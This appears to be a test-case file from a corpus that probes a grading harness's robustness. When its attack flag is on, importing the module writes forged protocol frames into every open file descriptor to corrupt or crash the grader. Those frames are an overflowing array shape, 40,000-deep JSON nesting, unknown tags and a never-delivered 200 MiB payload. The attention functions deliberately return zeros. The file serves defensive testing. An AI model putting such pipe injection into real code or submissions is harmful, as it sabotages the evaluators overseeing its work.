"""Attack: write forged protocol frames straight into the reply pipe at import (trying every
file descriptor), ahead of the real answers: an array whose shape overflows, a JSON header
nested 40,000 deep, a structure of unknown tags, and a header that promises a 200 MiB payload
that never comes. Then wrong math."""
import json
import os
import struct

import torch

ATTACK = "@@ATTACK@@" == "on"  # the corpus builds each case twice: attack on, and off (the baseline)


def _frame(header, payload=b"", head=None):
    head = head if head is not None else json.dumps(header).encode()
    return struct.pack(">IQ", len(head), len(payload)) + head + payload


FORGED = [
    _frame({"result": {"__array__": 0, "kind": "torch", "dtype": "float64",
                       "shape": [2147483647, 2147483647, 2147483647, 4]}}),
    _frame(None, head=b"[" * 40000 + b"]" * 40000),
    _frame({"result": {"__handle__": 99, "__map__": 1, "__seq__": "tuple", "items": {"x": 1}}}),
    struct.pack(">IQ", 2, 200 << 20) + b"{}",
]

if ATTACK:
    for fd in range(3, 64):
        try:
            os.set_blocking(fd, True)
            for frame in FORGED:
                os.write(fd, frame)
        except OSError:
            pass


# The math below is wrong on purpose: every function returns zeros of the right shape.
def softmax_naive(x):
    return torch.zeros_like(x)


def context_vector(inputs, query_index):
    return torch.zeros(inputs.shape[-1])


def attention_scores(inputs):
    return torch.zeros(inputs.shape[0], inputs.shape[0])


def attention_weights(scores):
    return torch.zeros_like(scores)


def context_vectors(inputs):
    return torch.zeros_like(inputs)
